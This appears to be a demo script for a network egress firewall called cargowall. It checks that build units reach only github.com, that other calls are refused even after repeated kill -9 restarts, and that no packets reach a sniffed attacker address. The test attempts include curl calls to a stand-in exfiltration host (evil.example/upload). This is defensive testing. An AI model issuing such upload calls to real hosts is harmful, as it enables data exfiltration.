# SPDX-License-Identifier: Apache-2.0
"""What tools/demo-service shows: the package on a machine, a unit with a policy of its own, what is said of its
denials, and a killed service whose enforcement does not end. One screen; exit status 0 when everything went as it
should."""

import os
import pathlib
import sys
import textwrap

HERE = pathlib.Path(__file__).resolve().parent
sys.dont_write_bytecode = True
sys.path[:0] = [str(HERE), str(HERE.parent / "e2e"), str(HERE.parent / "e2e" / "client")]

import lab  # noqa: E402
import plan  # noqa: E402
from base import Unavailable  # noqa: E402
from deb import Debs  # noqa: E402
from rig import SERVICE, Rig, Sender, allow, main_pid, wait_restarted  # noqa: E402

BUILD_POLICY = allow("github.com", match={"units": ["build-*.service"]})
WIDTH = 118


class Demo:
    def __init__(self, rig):
        self.rig, self.c, self.unexpected = rig, rig.boot(documents={"build": BUILD_POLICY}), 0

    def say(self, text):
        print("\n".join(line[:WIDTH] for line in text.splitlines()), flush=True)

    def wrong(self, what):
        self.unexpected += 1
        self.say(f"  UNEXPECTED: {what}")

    def show(self, title, *argv, lines=12, status=0):
        """A command as an administrator types it, and the first lines of what it prints."""
        self.say(f"\n# {title}\n$ {' '.join(argv)}")
        r = self.c.run(*argv)
        output = (r.out + r.err).strip().splitlines()
        self.say(textwrap.indent("\n".join(output[:lines]), "  "))
        if r.status != status:
            self.wrong(f"exit status {r.status}")
        return r

    def attempt(self, unit, wanted, *argv):
        """A command as a unit: whether it worked, in one line."""
        r = self.c.unit(*argv, name=unit, user=plan.JOB)
        got = "works" if r.status == 0 else "refused"
        detail = ((r.out + r.err).strip().splitlines() or ["(no output)"])[-1]
        self.say(f"  {unit:<17} {got:<8} {' '.join(argv):<44} {detail}")
        if got != wanted:
            self.wrong(f"this should have been {wanted}")

    def units(self):
        self.say("\n# Units named build-* reach github.com (policy.d/build.json); all others follow the host's policy")
        self.attempt("build-1.service", "works", "curl", "-sS", "https://github.com/")
        self.attempt("build-2.service", "refused", "curl", "-sS", "https://evil.example/upload")
        self.attempt("build-3.service", "refused", "curl", "-sS", f"http://{plan.EVIL4}/")
        self.attempt("other.service", "refused", "curl", "-sS", f"http://{plan.EVIL4}/")

    def killed(self):
        self.say("\n# kill -9, three times, while a sender tries allowed and denied addresses and names without end")
        sender = Sender(self.c, self.rig)
        for _ in range(3):
            old = main_pid(self.c)
            self.c.check("systemctl", "kill", "--kill-whom=main", "--signal=KILL", SERVICE)
            wait_restarted(self.c, old)
            self.say(f"  killed process {old}; process {main_pid(self.c)} has taken over")
            sender.advance()
        try:
            counts = sender.unbroken()
        except AssertionError as e:
            self.wrong(str(e))
            return
        self.say(f"  allowed: {counts['allowed_ok']} worked, {counts['allowed_refused']} refused;  "
                 f"denied: {counts['denied_refused']} refused, {counts['denied_passed']} passed;  "
                 f"names: {counts['dns_ok']} answered, {counts['dns_failed']} not")

    def witness(self):
        packets = [self.rig.packets(addr) for addr in (plan.EVIL4, plan.EVIL6)]
        self.say(f"\nPackets that reached the attacker, by a sniffer on the wire: {packets[0]} {packets[1]}")
        if any(packets):
            self.wrong("there should be none")

    def run(self):
        self.show("The service on a freshly booted machine", "cargowallctl", "status", lines=16)
        self.rig.watch()
        self.units()
        self.show("Why", "cargowallctl", "explain", "evil.example:443", "--scope", "build", lines=4, status=1)
        self.c.wait_journal(f"CARGOWALL_DST_IP={plan.EVIL4}")
        # -f never ends: timeout(1) ends it, with status 124
        self.show("As it happens (-f), after the last few", "timeout", "3", "cargowallctl", "events", "-f", "-n", "4",
                  lines=4, status=124)
        self.witness()
        self.killed()
        return self.unexpected


def main():
    lab.end_on_signals()
    try:
        with Rig(Debs()) as rig:
            unexpected = Demo(rig).run()
    except (Unavailable, lab.LabError, AssertionError, OSError, ValueError) as e:
        print(f"tools/demo: {e}", file=sys.stderr)
        return 1
    print("\nEverything was as it should be." if not unexpected else "\nNot everything was as it should be.")
    return 1 if unexpected else 0


os.environ.setdefault("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
sys.exit(main())
